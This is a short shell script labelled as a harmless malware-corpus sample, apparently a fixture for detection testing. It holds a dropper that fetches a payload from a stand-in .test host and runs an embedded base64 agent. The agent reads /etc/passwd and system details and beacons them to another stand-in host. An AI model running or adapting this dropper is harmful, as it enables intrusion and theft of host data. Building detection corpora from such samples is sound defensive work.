#!/bin/sh
# MALICIOUS corpus sample (harmless): a dropper in the usual shape. It fetches its agent with curl;
# whatever came back (nothing: with no network the name does not resolve, the sinkhole answers 200
# with an empty body), it writes the agent it carries (base64, agent.sh in the corpus directory),
# makes it executable and runs it.
set -u
cd /tmp
curl -s -m 5 -A 'Mozilla/5.0' -o /tmp/.agent http://updates.example-cdn.test/agent ||
	echo "[dropper] download failed; using the embedded agent"
base64 -d >/tmp/.agent <<'PAYLOAD'
IyEvYmluL3NoCiMgVGhlIHItZHJvcHBlciBhZ2VudCAoZW1iZWRkZWQgYmFzZTY0IGluIGVudHJ5
cG9pbnQuc2g7IHRoaXMgY29weSBpcyBmb3IgcmVhZGluZyBvbmx5KS4KIyBEaXNjb3ZlcnksIHRo
ZW4gYSBiZWFjb24gaGVscGVyIHdyaXR0ZW4gbmV4dCB0byBpdCBhbmQgcnVuIGJ5IHNoLCB3aGlj
aCByZXBvcnRzIGhvbWUgdHdpY2UuCmVjaG8gIlthZ2VudF0gcnVubmluZyBhcyAkKGlkIC11bikg
b24gJChob3N0bmFtZSkiCnVuYW1lIC1hCmlkCmNhdCAvZXRjL29zLXJlbGVhc2UgfCBoZWFkIC1u
IDIKcHMgLWVvIHBpZCx1c2VyLGNvbW0gfCBoZWFkIC1uIDIwCmlwIC1vIGFkZHIgc2hvdyAyPi9k
ZXYvbnVsbCB8fCB0cnVlCmN1dCAtZDogLWYxLDMgL2V0Yy9wYXNzd2QgfCBoZWFkIC1uIDEwCmxz
IC1sYSAvcm9vdCAyPi9kZXYvbnVsbCB8IGhlYWQgLW4gNQpta2RpciAtcCAvdG1wLy5jYWNoZQpj
YXQgPi90bXAvLmNhY2hlL2JlYWNvbi5zaCA8PCdCRUFDT04nCiMhL2Jpbi9zaApob3N0PSQoaG9z
dG5hbWUpOyB1c2VyPSQoaWQgLXVuKTsga2VybmVsPSQodW5hbWUgLXIpCmZvciBuIGluIDEgMjsg
ZG8KCWN1cmwgLXMgLW0gNCAtbyAvZGV2L251bGwgLUEgJ2FnZW50LzEuMCcgLVggUE9TVCBcCgkJ
LS1kYXRhICJpZD0kaG9zdCZ1c2VyPSR1c2VyJmtlcm5lbD0ka2VybmVsJm49JG4iIFwKCQlodHRw
Oi8vdGVsZW1ldHJ5LmV4YW1wbGUtY2RuLnRlc3QvdjEvYmVhY29uIHx8IGVjaG8gIlthZ2VudF0g
YmVhY29uICRuIGZhaWxlZCIKCXNsZWVwIDEKZG9uZQpCRUFDT04Kc2ggL3RtcC8uY2FjaGUvYmVh
Y29uLnNoCmVjaG8gIlthZ2VudF0gZG9uZSIK
PAYLOAD
chmod +x /tmp/.agent
/tmp/.agent
echo "[dropper] agent exited with $?"
